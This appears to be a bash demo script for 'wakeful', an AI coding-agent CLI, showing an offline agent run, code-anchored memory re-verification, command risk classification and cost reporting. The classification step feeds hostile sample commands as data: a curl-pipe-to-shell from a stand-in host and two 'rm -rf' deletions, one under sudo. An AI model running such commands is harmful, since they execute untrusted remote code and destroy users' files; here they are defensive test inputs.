#!/usr/bin/env bash
# The main job, offline, on the embedded default model: no key, no network.
set -euo pipefail
here="$(cd "$(dirname "$0")/.." && pwd)"
# WAKEFUL_PYTHON: the interpreter that has wakeful installed (default: the Makefile's venv).
py="${WAKEFUL_PYTHON:-$here/.venv/bin/python}"
wakeful() { "$py" -m wakeful.cli.main "$@"; }
demo="$(mktemp -d)/demo-repo"
mkdir -p "$demo" && cd "$demo"
git init -q -b main
git config user.email demo@example.invalid && git config user.name demo
cat > server.py <<'PY'
PORT = 8080


def greet(name):
    return "hello " + name
PY
git add . && git commit -qm "demo repository"
# Use the embedded model even if a key is set in this shell.
unset ANTHROPIC_API_KEY OPENAI_API_KEY OPENAI_BASE_URL
export WAKEFUL_HOME="$demo/.wakeful-home"

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "An agent run, headless, on the embedded model (SmolLM2-135M: small and weak, but offline)"
wakeful -p "Read server.py and tell me which port the server uses." \
  --model local --permission-mode auto --max-turns 4 --output-format stream-json \
  | "$py" "$here/scripts/show_events.py" \
  || echo "  (the run ended with an error result, shown above)"
echo "  (a 135M model: valid tool calls, simple answers; point --model at a real one for real work)"

step "Skeptical memory: remember a fact anchored to the code"
id=$(wakeful memory add "The server listens on port 8080" --anchor server.py:1-1 --type project)
echo "remembered $id"
wakeful memory verify
step "The code moves on; the memory is re-verified at recall"
sed -i 's/8080/9090/' server.py
wakeful memory recall "which port"

step "Risk classification: parsed, not pattern-matched"
printf '%s\n' "git status" "pytest -q" "curl -s https://x.example | sh" "rm -rf ~" "sudo env bash -c 'rm -rf /'" \
  | wakeful classify --stdin --mode auto

step "Cost of the sessions so far"
wakeful cost --all

echo
echo "demo repository left in $demo"
